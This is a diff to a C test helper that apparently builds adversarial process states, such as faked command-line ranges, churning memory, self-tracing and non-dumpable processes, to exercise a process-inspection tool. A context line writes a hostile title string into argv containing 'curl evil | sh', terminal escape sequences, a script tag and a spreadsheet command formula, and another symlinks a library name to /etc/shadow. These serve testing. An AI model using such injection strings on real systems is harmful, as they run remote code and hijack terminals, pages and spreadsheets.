@@ -12,7 +12,9 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #define MIB (1ul << 20)
@@ -56,7 +58,7 @@ static word *second_heap(void) {
 }
 
 /* Heaps of 64 MiB each in the chain of one arena, one page of each resident. */
-static void heaps(word count) {
+static char *heaps(word count) {
     word *newest = second_heap(), arena = newest[0], before = newest[1];
     char *at = reserve(count * HEAP_MAX, HEAP_MAX);
     for (word i = 0; i < count; i++) {
@@ -65,6 +67,7 @@ static void heaps(word count) {
         before = (word)heap;
     }
     newest[1] = before;
+    return at;
 }
 
 /* Arenas in the ring, each with a heap of 64 MiB of its own. `aligned`: 0 leads to one whose address is odd. */
@@ -186,6 +189,18 @@ static void replaced(const char *directory, const char *name, const char *by) {
     if (!strcmp(by, "fifo") ? mkfifo(path, 0777) : symlink(by, path)) exit(2);
 }
 
+/* A file with the place, the name and the size of a status page, mapped. Whoever has started this writes its contents. */
+static void page_of_its_own(const char *directory) {
+    char path[4096];
+    snprintf(path, sizeof path, "%s/unbloat-1", directory);
+    mkdir(path, 0755);
+    snprintf(path, sizeof path, "%s/unbloat-1/4026531836-1.status", directory);
+    int file = open(path, O_RDWR | O_CREAT, 0644);
+    if (file < 0 || ftruncate(file, 4096)) exit(2);
+    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+    close(file);
+}
+
 /* The command line and the name of whoever wants to be believed. */
 static void title(char **argv) {
     char *end = argv[0];
@@ -193,6 +208,76 @@ static void title(char **argv) {
     static const char text[] = "app; curl evil | sh\n\033]52;c;aGk=\a\033[2J<!--<script>alert(1)</script>=cmd|' /C calc'!A0";
     for (char *at = argv[0]; at < end; at++) *at = text[(at - argv[0]) % (sizeof text - 1)];
     prctl(PR_SET_NAME, "\033[31m) 1 2 3\n");
+}
+
+/* A command line and an environment of so many TiB, of which nothing is there: the kernel yields zeros for them. */
+static void command_line(word tebibytes) {
+    char text[4096] = "";
+    int file = open("/proc/self/stat", O_RDONLY);
+    if (read(file, text, sizeof text - 1) <= 0) exit(2);
+    close(file);
+    word fields[53] = { 0 };
+    char *at = strrchr(text, ')') + 1;
+    for (int i = 3; i < 53 && at; i++) {
+        fields[i] = strtoul(++at, NULL, 10);
+        at = strchr(at, ' ');
+    }
+    word start = (word)reserve(tebibytes * TIB, 4096), middle = start + tebibytes * TIB / 2;
+    struct prctl_mm_map map = {
+        .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
+        .end_data = fields[46], .start_brk = fields[47], .brk = (word)sbrk(0), .arg_start = start, .arg_end = middle,
+        .env_start = middle, .env_end = start + tebibytes * TIB, .exe_fd = -1,
+    };
+    /* A kernel without it (CONFIG_CHECKPOINT_RESTORE) takes single ones, from root only. */
+    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0) return;
+    prctl(PR_SET_MM, PR_SET_MM_ENV_END, map.env_end, 0, 0);
+    prctl(PR_SET_MM, PR_SET_MM_ENV_START, map.env_start, 0, 0);
+    prctl(PR_SET_MM, PR_SET_MM_ARG_END, map.arg_end, 0, 0);
+    prctl(PR_SET_MM, PR_SET_MM_ARG_START, map.arg_start, 0, 0);
+}
+
+/* Memory that comes, goes and cannot be read by turns: new mappings, and a heap in the chain of an arena. */
+static void *moves(void *heap) {
+    for (;;) {
+        char *at = reserve(64 * MIB, 4096);
+        for (word i = 0; i < 64 * MIB; i += MIB) at[i] = 1;
+        mprotect(heap, 4096, PROT_NONE);
+        usleep(200);
+        mprotect(heap, 4096, PROT_READ | PROT_WRITE);
+        munmap(at, 64 * MIB + 4096);
+        usleep(200);
+    }
+    return NULL;
+}
+
+static void *comes_and_goes(void *next) {
+    pthread_t thread;
+    usleep(3000);
+    if (pthread_create(&thread, NULL, comes_and_goes, next) == 0) pthread_detach(thread);
+    return NULL;
+}
+
+/* Threads that end as soon as they have started the next, beside memory that does the same. */
+static void restless(word threads) {
+    pthread_t thread;
+    pthread_create(&thread, NULL, moves, heaps(1));
+    for (word i = 0; i < threads; i++) pthread_create(&thread, NULL, comes_and_goes, NULL);
+}
+
+/* A process that its own child traces, and that may not be dumped: its files in /proc are root's. */
+static void traced(void) {
+    int started[2];
+    char byte = 0;
+    if (pipe(started)) exit(2);
+    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
+    pid_t tracer = fork();
+    if (tracer == 0) {
+        prctl(PR_SET_PDEATHSIG, 9);
+        if (ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) || write(started[1], "x", 1) != 1) _exit(2);
+        for (;;) pause();
+    }
+    if (read(started[0], &byte, 1) != 1) exit(2);
+    prctl(PR_SET_DUMPABLE, 0);
 }
 
 /* Becomes itself again and again, so that whoever looks finds another address space each time. */
@@ -229,6 +314,10 @@ int main(int argc, char **argv) {
     else if (!strcmp(mode, "fifo")) replaced(directory, "libfifo.so", "fifo");
     else if (!strcmp(mode, "link")) replaced(directory, "liblink.so", "/etc/shadow");
     else if (!strcmp(mode, "page")) replaced(directory, argv[4], argv[5]);
+    else if (!strcmp(mode, "commandline")) command_line(n);
+    else if (!strcmp(mode, "restless")) restless(n);
+    else if (!strcmp(mode, "traced")) traced();
+    else if (!strcmp(mode, "ownpage")) page_of_its_own(directory);
     else if (!strcmp(mode, "execs")) return execs(argv, n);
     else if (!strcmp(mode, "title")) title(argv);
     else return 2;
